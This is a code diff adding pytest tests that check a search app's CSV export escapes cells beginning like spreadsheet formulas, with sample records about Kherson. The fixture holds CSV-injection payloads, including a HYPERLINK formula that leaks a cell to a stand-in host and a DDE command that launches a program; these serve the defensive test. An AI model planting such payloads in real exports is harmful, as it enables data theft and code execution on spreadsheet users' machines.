@@ -10,6 +10,7 @@ from xml.etree import ElementTree as ET
 import pytest
 
 from search import load_settings, update_index
+from search.cli import cli
 from web import create_app
 
 ATOM = "{http://www.w3.org/2005/Atom}"
@@ -84,3 +85,62 @@ def test_opensearch_description_and_links(client):
     assert 'rel="search" type="application/opensearchdescription+xml"' in html
     assert 'href="/feed.atom?q=Kherson&amp;topic=Strikes"' in html
     assert 'href="/api/export.csv?q=Kherson&amp;topic=Strikes"' in html
+
+
+# -- cells a spreadsheet would run as formulas (#13) -----------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_RECORDS = [
+    {"id": "eq", "title": '=HYPERLINK("http://evil.example/?x="&A1,"Details")', "source": "=cmd|' /C calc'!A0",
+     "date": "2024-12-02", "text": "=1+1 Kherson shelling was reported."},
+    {"id": "plus", "title": "+Kherson update", "source": "+SUM(A1:A9)", "date": "2024-12-03",
+     "text": "+380 residents of Kherson were evacuated."},
+    {"id": "minus", "title": "-Kherson update", "source": "-2+3", "date": "2024-12-04",
+     "text": "-2+3 drones struck Kherson port."},
+    {"id": "at", "title": "@SUM(1+1)*cmd", "source": "@Kherson Monitor", "date": "2024-12-05",
+     "text": "@SUM(1+1) Kherson residents sheltered."},
+    {"id": "tab", "title": "\t=1+1 Kherson", "source": "\tTab Source", "date": "2024-12-06",
+     "text": "Kherson was quiet through the night, officials said."},
+    {"id": "cr", "title": "\r=1+1 Kherson", "source": "\rCR Source", "date": "2024-12-07",
+     "text": "Kherson calm overnight."},
+    {"id": "plain", "title": "Kherson daily", "source": "Kherson Monitor", "date": "2024-12-08",
+     "text": "Kherson had power 3-4 hours; a=b."},
+]
+
+
+@pytest.fixture
+def formula_client(runner, tmp_path):
+    """An index, built by the real `sitrep index`, of a JSON Lines export whose cells start like formulas."""
+    reports = tmp_path / "reports"
+    reports.mkdir()
+    (reports / "records.jsonl").write_text("\n".join(json.dumps(r) for r in FORMULA_RECORDS) + "\n")
+    index_dir = tmp_path / "index"
+    result = runner.invoke(cli, ["index", str(reports), "--index-dir", str(index_dir)], catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    app = create_app(load_settings(environ={}, index_dir=index_dir), TESTING=True)
+    yield app.test_client()
+    app.extensions["sitrep"].close()
+
+
+def test_csv_cells_never_start_a_formula(formula_client):
+    response = formula_client.get("/api/export.csv?q=Kherson&sort=oldest")
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
+    assert len(rows) == len(FORMULA_RECORDS)
+    for row in rows:
+        assert not [value for value in row.values() if value.startswith(FORMULA_STARTS)], row
+    by_date = {row["date"]: row for row in rows}
+    first = by_date["2024-12-02"]
+    assert first["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Details")'
+    assert first["source"] == "'=cmd|' /C calc'!A0"
+    assert first["text"] == "'=1+1 Kherson shelling was reported."
+    assert [by_date[day]["source"] for day in ("2024-12-03", "2024-12-04", "2024-12-05", "2024-12-06", "2024-12-07")] == [
+        "'+SUM(A1:A9)", "'-2+3", "'@Kherson Monitor", "'\tTab Source", "'\rCR Source"]
+    assert by_date["2024-12-04"]["text"] == "'-2+3 drones struck Kherson port."
+    # Only the first character counts: a = or - inside a cell is left as written.
+    assert (by_date["2024-12-08"]["title"], by_date["2024-12-08"]["text"]) == (
+        "Kherson daily", "Kherson had power 3-4 hours; a=b.")
+
+
+def test_json_export_keeps_the_text_as_written(formula_client):
+    data = json.loads(formula_client.get("/api/export.json?q=Kherson&sort=oldest").get_data(as_text=True))
+    assert [hit["source"] for hit in data[:2]] == ["=cmd|' /C calc'!A0", "+SUM(A1:A9)"]
